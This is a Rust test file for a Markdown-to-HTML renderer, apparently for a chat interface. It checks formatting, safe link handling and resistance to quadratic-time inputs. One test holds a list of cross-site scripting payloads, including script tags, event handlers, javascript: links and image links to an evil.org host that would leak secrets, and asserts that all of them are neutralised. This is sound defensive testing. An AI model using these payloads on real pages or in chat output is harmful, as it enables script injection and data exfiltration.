use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::*;

fn rendered(source: &str, hard_breaks: bool) -> String {
    let mut out = String::new();
    render_into(&mut out, source, Style { marks: &Marks::default(), hard_breaks });
    out
}

fn check(source: &str, expected: &str) {
    assert_eq!(rendered(source, false).trim_end(), expected, "{source}");
}

#[test]
fn paragraphs_and_emphasis() {
    check(
        "Two *fine* **loaves**, ~~one~~ `left`",
        "<p>Two <em>fine</em> <strong>loaves</strong>, <del>one</del> <code>left</code></p>",
    );
    check("# One\n## Two", "<h3>One</h3>\n<h4>Two</h4>");
    check("a\nb", "<p>a\nb</p>");
    assert_eq!(rendered("a\nb", true), "<p>a<br>\nb</p>\n");
    check("> [!NOTE]\n> so", "<blockquote>\n<p class=\"alert\">Note</p><p>so</p>\n</blockquote>");
    check("***", "<hr>");
}

#[test]
fn lists_and_tasks() {
    check("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>");
    check("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>");
    check(
        "- [x] a\n- [ ] b",
        "<ul>\n<li><span class=\"task done\" role=\"img\" aria-label=\"done\"></span> a</li>\n<li><span class=\"task\" role=\"img\" aria-label=\"to do\"></span> b</li>\n</ul>",
    );
}

#[test]
fn tables() {
    check(
        "|a|b|\n|-|-:|\n|1|x<br>y|",
        "<div class=\"wide\" role=\"region\" aria-label=\"Table\" tabindex=\"0\"><table>\n<thead><tr><th scope=\"col\">a</th><th scope=\"col\" class=\"right\">b</th></tr></thead>\n<tbody>\n<tr><td>1</td><td class=\"right\">x<br>y</td></tr>\n</tbody></table></div>",
    );
}

#[test]
fn code() {
    check(
        "```rust\nlet a = 1;\n```",
        "<div class=\"code\"><div class=\"code-bar\"><span class=\"code-language\">Rust</span></div><pre tabindex=\"0\"><code><span class=\"hk\">let</span> a = <span class=\"hn\">1</span>;\n</code></pre></div>",
    );
    check(
        "```\n<b>\n```",
        "<div class=\"code\"><div class=\"code-bar\"><span class=\"code-language\"></span></div><pre tabindex=\"0\"><code>&lt;b&gt;\n</code></pre></div>",
    );
}

#[test]
fn formulas_and_money() {
    check("$a<b$", "<p><span class=\"math\">a&lt;b</span></p>");
    check("\\(a\\)", "<p><span class=\"math\">a</span></p>");
    check("$$\nx\n$$", "<p><span class=\"math display\">x</span></p>");
    check("from $5-$10", "<p>from $5-$10</p>");
}

#[test]
fn links_tell_their_host() {
    const REL: &str = "rel=\"noopener noreferrer nofollow\" target=\"_blank\"";
    check(
        "[here](https://a.org/x)",
        &format!(
            "<p><a class=\"out\" href=\"https://a.org/x\" {REL}>here</a><span class=\"host\">a.org</span></p>"
        ),
    );
    check(
        "see https://a.org/x.",
        &format!("<p>see <a class=\"out\" href=\"https://a.org/x\" {REL}>https://a.org/x</a>.</p>"),
    );
    check(
        "[a.org](https://evil.org)",
        &format!(
            "<p><a class=\"out\" href=\"https://evil.org\" {REL}>a.org</a><span class=\"host\">evil.org</span></p>"
        ),
    );
    check("[run](javascript:alert)", "<p>run <span class=\"host\">javascript:alert</span></p>");
    check(
        "[file](sandbox:/mnt/data/a.csv)",
        "<p>file <span class=\"host\">sandbox:/mnt/data/a.csv</span></p>",
    );
}

#[test]
fn pictures_are_told_and_not_fetched() {
    check(
        "![a *cat*](https://a.org/c.png)",
        "<p><span class=\"picture\"><a class=\"out\" href=\"https://a.org/c.png\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">a cat</a><span class=\"host\">a.org</span></span></p>",
    );
    check("![x](data:image/svg+xml,<svg>)", "<p><span class=\"picture\">x</span></p>");
    check(
        "[![](https://a.org/c.png)](https://b.org)",
        "<p><a class=\"out\" href=\"https://b.org\" rel=\"noopener noreferrer nofollow\" target=\"_blank\"><span class=\"picture\">Image</span></a><span class=\"host\">b.org</span></p>",
    );
}

/// Stored script in a chat must stay text: the class of Open WebUI's advisories and of EchoLeak (CVE-2025-32711).
#[test]
fn nothing_hostile_becomes_markup() {
    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<br onclick=alert(1)>",
        "<br/onclick=alert(1)//>",
        "<style>@import 'https://evil.org/x.css';</style>",
        "<base href=https://evil.org>",
        "<meta http-equiv=refresh content='0;url=https://evil.org'>",
        "<form action=https://evil.org><input name=a></form>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](java&#x0A;script:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](<javascript:alert(1)>)",
        "[x](https://a.org\"onmouseover=alert(1))",
        "[x](https://a.org/\"onmouseover=\"alert(1))",
        "[x][y]\n\n[y]: javascript:alert(1) 'title\" onload=x'",
        "![x](https://evil.org/leak?q=secret)",
        "![x\" onerror=\"alert(1)](https://evil.org/a.png)",
        "![x][leak]\n\n[leak]: https://evil.org/?secret",
        "<javascript:alert(1)>",
        "<https://a.org/\"onclick=alert(1)>",
        "https://a.org/\"onclick=alert(1)",
        "https://a.org/<script>alert(1)</script>",
        "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
        "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
        "`<script>alert(1)</script>`",
        "$<script>alert(1)</script>$",
        "\\[<img src=x onerror=alert(1)>\\]",
        "# <script>alert(1)</script>",
        "|<script>|\n|-|\n|<img src=x onerror=1>|",
        "- [ ] <script>alert(1)</script>",
        "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "<!-- --><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><script>",
        "[<img src=x onerror=alert(1)>](https://a.org)",
        "[a](https://a.org '\"><script>alert(1)</script>')",
        "**<script>**alert(1)**</script>**",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "\u{feff}<script\u{0}>alert(1)</script>",
        "＜script＞alert(1)＜/script＞",
    ];
    for source in HOSTILE {
        only_ours(&rendered(source, false), source);
        only_ours(&rendered(&format!("> - {source}"), true), source);
        only_ours(&rendered(&format!("[{source}](https://a.org)"), true), source);
    }
}

/// Asserts that each tag is one that the writer makes, with the attributes that it makes.
fn only_ours(html: &str, source: &str) {
    const TAGS: &[&str] = &[
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "span",
        "strong",
        "sup",
        "sub",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    const ATTRIBUTES: &[&str] =
        &["class", "href", "rel", "target", "role", "aria-label", "tabindex", "scope", "start"];
    for piece in html.split('<').skip(1) {
        let (tag, _) =
            piece.split_once('>').unwrap_or_else(|| panic!("a tag that does not end: {html}\n{source}"));
        let mut parts = tag.trim_start_matches('/').splitn(2, ' ');
        let name = parts.next().unwrap_or_default();
        assert!(TAGS.contains(&name), "<{name}> in {html}\nfrom {source}");
        let mut rest = parts.next().unwrap_or_default().trim();
        while !rest.is_empty() {
            let (attribute, after) =
                rest.split_once("=\"").unwrap_or_else(|| panic!("attribute in {html}\n{source}"));
            let (value, after) = after.split_once('"').unwrap_or_else(|| panic!("value in {html}\n{source}"));
            assert!(ATTRIBUTES.contains(&attribute), "{attribute} in {html}\nfrom {source}");
            if attribute == "href" {
                let address = value.to_lowercase();
                assert!(
                    ["http://", "https://", "mailto:"].iter().any(|scheme| address.starts_with(scheme)),
                    "{value}"
                );
            }
            rest = after.trim();
        }
    }
}

/// Inputs that make naive parsers quadratic or recursive.
#[test]
fn hostile_shapes_are_bounded_in_time() {
    let shapes = [
        ">".repeat(50_000),
        "> ".repeat(50_000),
        "- ".repeat(20_000),
        "[".repeat(100_000),
        "![".repeat(50_000),
        "[a](".repeat(30_000),
        "*a ".repeat(60_000),
        "**a _b ".repeat(30_000),
        "`".repeat(100_000),
        "`a``b".repeat(20_000),
        "$a ".repeat(60_000),
        "<!--".repeat(40_000),
        "<a ".repeat(40_000),
        "|a".repeat(50_000),
        "|a|\n|-|\n".repeat(10_000),
        "\\(".repeat(80_000),
        "\\( \\( \\) $".repeat(10_000),
        "https://".repeat(20_000),
        "http://a.org/(((".repeat(10_000),
        "[^a]".repeat(30_000),
        "&amp;".repeat(60_000),
        "```\n".repeat(40_000),
    ];
    for shape in shapes {
        let started = Instant::now();
        let html = rendered(&shape, true);
        let head: String = shape.chars().take(12).collect();
        assert!(started.elapsed() < Duration::from_secs(5), "{head}… took {:?}", started.elapsed());
        let deepest =
            html.split('<').fold((0_usize, 0_usize), |(depth, most), tag| match tag.as_bytes().first() {
                Some(b'/') => (depth.saturating_sub(1), most),
                Some(b'b') if tag.starts_with("br") => (depth, most),
                Some(_) if !tag.starts_with("hr") => (depth + 1, most.max(depth + 1)),
                _ => (depth, most),
            });
        assert!(deepest.1 < 64, "{head}… nests {} deep", deepest.1);
    }
}

#[test]
fn a_megabyte_is_shown_as_it_stands() {
    let source = "<b>*a*</b> ".repeat(100_000);
    let started = Instant::now();
    let html = rendered(&source, false);
    assert!(started.elapsed() < Duration::from_secs(5));
    assert!(html.starts_with("<pre class=\"plain\">&lt;b&gt;*a*"));
}

proptest! {
    #[test]
    fn any_text_gives_our_tags_only(source in "(?s)([a-z<>\"'&=/:;!\\[\\]()*_`$#|~^\\\\ \n-]|http://a|<script>|javascript:|é|&#x3c;){0,80}") {
        only_ours(&rendered(&source, true), &source);
    }
}
